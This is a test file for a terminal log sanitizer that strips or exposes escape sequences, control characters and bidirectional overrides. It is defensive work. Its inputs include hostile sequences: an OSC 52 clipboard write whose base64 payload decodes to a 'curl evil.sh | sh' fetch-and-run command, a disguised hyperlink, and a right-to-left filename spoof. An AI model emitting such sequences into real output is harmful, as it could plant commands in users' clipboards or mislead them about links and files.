import { describe, expect, it } from 'vitest';
import { sanitizeLine, Utf8Stream } from '../../src/engine/logs/sanitize.js';

const plain = (s: string) => sanitizeLine(s, { keepColor: false });
const color = (s: string) => sanitizeLine(s, { keepColor: true });
// Nothing that a terminal would act on may survive: no ESC, no C0 but what we put, no C1.
const inert = (s: string) => !/[\x00-\x08\x0a-\x1f\x7f\x80-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(s.replace(/\x1b\[[\d;:]*m/g, ''));

describe('sanitizeLine', () => {
  it('passes plain text through untouched', () => {
    expect(plain('epoch 3 step 1200 loss 0.42 — ünïcødé 训练')).toBe('epoch 3 step 1200 loss 0.42 — ünïcødé 训练');
  });
  it('removes cursor moves', () => {
    expect(plain('a\x1b[10;5Hb\x1b[2Ac\x1b[3Cd')).toBe('abcd');
  });
  it('removes screen and line clears', () => {
    expect(plain('\x1b[2Jcleared\x1b[K\x1b[1J')).toBe('cleared');
    expect(plain('\x1b[Hhome')).toBe('home');
  });
  it('removes mode switches: alternate screen, hidden cursor, mouse, bracketed paste', () => {
    expect(plain('\x1b[?1049h\x1b[?25l\x1b[?1000h\x1b[?2004hx')).toBe('x');
  });
  it('removes title changes, with BEL and with ST', () => {
    expect(plain('\x1b]0;pwned\x07after')).toBe('after');
    expect(plain('\x1b]2;pwned\x1b\\after')).toBe('after');
  });
  it('removes OSC 52 clipboard writes entirely', () => {
    const line = 'x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y';
    expect(plain(line)).toBe('xy');
    expect(plain(line)).not.toContain('Y3Vy');
  });
  it('keeps the text of OSC 8 hyperlinks and drops the link', () => {
    expect(plain('see \x1b]8;;https://evil.example\x1b\\the docs\x1b]8;;\x1b\\ now')).toBe('see the docs now');
  });
  it('shows a bell and other C0 controls visibly instead of obeying them', () => {
    expect(plain('ding\x07dong')).toBe('ding^Gdong');
    expect(plain('a\x08b')).toBe('a^Hb');
    expect(plain('nul\x00')).toBe('nul^@');
    expect(plain('del\x7f')).toBe('del^?');
  });
  it('removes 8-bit CSI, OSC and DCS', () => {
    expect(plain('a\x9b2Jb')).toBe('ab');
    expect(plain('a\x9d0;title\x07b')).toBe('ab');
    expect(plain('a\x90qdata\x9cb')).toBe('ab');
    expect(inert(plain('c1 \x85 \x8d'))).toBe(true);
  });
  it('shows other C1 controls as code points', () => {
    expect(plain('a\x85b\x8dc')).toBe('a<U+0085>b<U+008D>c');
  });
  it('shows bidirectional controls visibly, so text reads in the order it is stored', () => {
    // U+202E made `evil.exe` read backwards on a terminal; every bidi control is shown instead.
    expect(plain('evil\u202eexe.txt')).toBe('evil<U+202E>exe.txt');
    expect(plain('\u2066a\u2067b\u2068c\u2069 \u202a\u202b\u202c\u202d \u200e\u200f\u061c')).toBe(
      '<U+2066>a<U+2067>b<U+2068>c<U+2069> <U+202A><U+202B><U+202C><U+202D> <U+200E><U+200F><U+061C>',
    );
    expect(color('\x1b[31m\u202eevil\x1b[0m')).toBe('\x1b[31m<U+202E>evil\x1b[0m');
    // Joiners and other invisible characters that scripts need are text, not controls.
    expect(plain('👩\u200d💻 नमस्ते\u200c')).toBe('👩\u200d💻 नमस्ते\u200c');
  });
  it('removes DCS, APC and PM strings', () => {
    expect(plain('a\x1bPq#0;2;0;0;0\x1b\\b')).toBe('ab');
    expect(plain('a\x1b_apc\x1b\\b\x1b^pm\x1b\\c')).toBe('abc');
  });
  it('removes single-character escapes: reset, save/restore, index, charsets', () => {
    expect(plain('\x1bcreset\x1b7a\x1b8b\x1bMc\x1b(Bd\x1b#8e')).toBe('resetabcde');
  });
  it('drops an unterminated OSC to the end of the line', () => {
    expect(plain('ok\x1b]0;never ends')).toBe('ok');
  });
  it('keeps SGR colour only when asked, and only well-formed SGR', () => {
    expect(plain('\x1b[31mred\x1b[0m')).toBe('red');
    expect(color('\x1b[1;31mred\x1b[0m')).toBe('\x1b[1;31mred\x1b[0m');
    expect(color('\x1b[38:2:255:0:0mtrue\x1b[m')).toBe('\x1b[38:2:255:0:0mtrue\x1b[m');
    expect(color('\x1b[?31mx')).toBe('x');
  });
  it('shows only the last state of a \\r progress bar', () => {
    expect(plain('10%\r20%\r30% done')).toBe('30% done');
    expect(plain('progress 100%\r')).toBe('progress 100%');
  });
  it('expands tabs to 8-column stops', () => {
    expect(plain('a\tb')).toBe('a       b');
    expect(plain('abcdefgh\tc')).toBe('abcdefgh        c');
  });
  it('makes binary garbage inert', () => {
    const bytes = Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 37) % 256));
    const s = plain(new Utf8Stream().write(bytes));
    expect(inert(s)).toBe(true);
    expect(s).not.toContain('\x1b');
  });
});

describe('Utf8Stream', () => {
  it('keeps a character split across chunks and replaces invalid bytes', () => {
    const d = new Utf8Stream();
    const bytes = Buffer.from('训练', 'utf8');
    expect(d.write(bytes.subarray(0, 2)) + d.write(bytes.subarray(2, 4)) + d.write(bytes.subarray(4)) + d.end()).toBe('训练');
    const d2 = new Utf8Stream();
    expect(d2.write(Buffer.from([0x61, 0xff, 0xfe, 0x62])) + d2.end()).toBe('a\ufffd\ufffdb');
  });
});
